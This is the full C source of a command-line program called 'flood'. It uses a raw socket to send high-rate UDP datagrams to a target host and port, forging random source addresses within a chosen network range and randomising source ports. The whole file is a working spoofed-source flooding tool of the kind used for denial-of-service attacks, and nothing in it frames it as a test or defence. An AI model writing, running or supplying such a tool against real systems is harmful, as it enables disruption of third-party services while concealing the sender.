/* Sends UDP datagrams over IPv4 as fast as it is told, or as it can, from as many source addresses as wanted.

   flood TARGET PORT NETWORK BITS SOURCE_PORT RATE SECONDS MESSAGES

   Sources: the addresses of NETWORK whose last BITS bits are random; SOURCE_PORT 0: random ports. RATE: datagrams a
   second, 0 for no limit. MESSAGES: a file of payloads, each behind its length (16 bits, big-endian), taken in turn.
   Prints how many were sent, at the end or when it gets a SIGTERM. Needs CAP_NET_RAW. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, MESSAGES_MAX = 4096, FILE_MAX = 1 << 22, TICK_NS = 500000 };

struct headers {
    struct iphdr ip;
    struct udphdr udp;
};

static volatile sig_atomic_t stopped;
static uint8_t file[FILE_MAX];
static struct iovec messages[MESSAGES_MAX];
static struct headers headers[BATCH];
static struct iovec parts[BATCH][2];
static struct mmsghdr batch[BATCH];

static void stop(int signum) { stopped = signum; }

static uint64_t now_ns(void)
{
    struct timespec at;
    clock_gettime(CLOCK_MONOTONIC, &at);
    return (uint64_t)at.tv_sec * 1000000000 + (uint64_t)at.tv_nsec;
}

static uint64_t next_random(uint64_t *state)
{
    *state ^= *state << 13;
    *state ^= *state >> 7;
    *state ^= *state << 17;
    return *state;
}

static size_t read_messages(const char *path)
{
    FILE *in = fopen(path, "rb");
    size_t length, at = 0, count = 0;
    if (in == NULL)
        return 0;
    length = fread(file, 1, sizeof file, in);
    fclose(in);
    while (at + 2 <= length && count < MESSAGES_MAX) {
        size_t n = (size_t)file[at] << 8 | file[at + 1];
        if (at + 2 + n > length)
            break;
        messages[count].iov_base = file + at + 2;
        messages[count++].iov_len = n;
        at += 2 + n;
    }
    return count;
}

int main(int argc, char **argv)
{
    struct sockaddr_in to = {.sin_family = AF_INET};
    uint64_t state = 0x9E3779B97F4A7C15, sent = 0, began, until;
    size_t count, turn = 0;
    uint32_t network, mask;
    double rate;
    int fd, buffer = 4 << 20;
    if (argc != 9 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 || inet_pton(AF_INET, argv[3], &network) != 1
        || (count = read_messages(argv[8])) == 0) {
        fputs("flood TARGET PORT NETWORK BITS SOURCE_PORT RATE SECONDS MESSAGES\n", stderr);
        return 2;
    }
    network = ntohl(network);
    mask = (uint32_t)((1ULL << atoi(argv[4])) - 1);
    rate = atof(argv[6]);
    fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) {
        perror("socket");
        return 1;
    }
    setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &buffer, sizeof buffer);
    signal(SIGTERM, stop);
    for (int i = 0; i < BATCH; i++) {
        headers[i].ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP};
        headers[i].ip.daddr = to.sin_addr.s_addr;
        headers[i].udp.dest = htons((uint16_t)atoi(argv[2]));
        parts[i][0] = (struct iovec){&headers[i], sizeof headers[i]};
        batch[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = parts[i], .msg_iovlen = 2};
    }
    began = now_ns();
    until = began + (uint64_t)(atof(argv[7]) * 1e9);
    while (!stopped) {
        uint64_t now = now_ns();
        unsigned int n = BATCH;
        int done;
        if (now >= until)
            break;
        if (rate > 0) {
            double due = rate * (double)(now - began) / 1e9 - (double)sent;
            if (due < 1) {
                struct timespec tick = {0, TICK_NS};
                nanosleep(&tick, NULL);
                continue;
            }
            n = due < BATCH ? (unsigned int)due : BATCH;
        }
        for (unsigned int i = 0; i < n; i++) {
            uint64_t chance = next_random(&state);
            parts[i][1] = messages[turn++ % count];
            headers[i].ip.saddr = htonl(network | ((uint32_t)chance & mask));
            headers[i].udp.source = htons(atoi(argv[5]) ? (uint16_t)atoi(argv[5]) : (uint16_t)(1024 + (chance >> 32) % 64000));
            headers[i].udp.len = htons((uint16_t)(sizeof(struct udphdr) + parts[i][1].iov_len));
        }
        done = sendmmsg(fd, batch, n, 0);
        if (done > 0)
            sent += (uint64_t)done;
        else if (errno != EAGAIN && errno != ENOBUFS && errno != EINTR) {
            perror("sendmmsg");
            return 1;
        }
    }
    printf("%llu\n", (unsigned long long)sent);
    return 0;
}
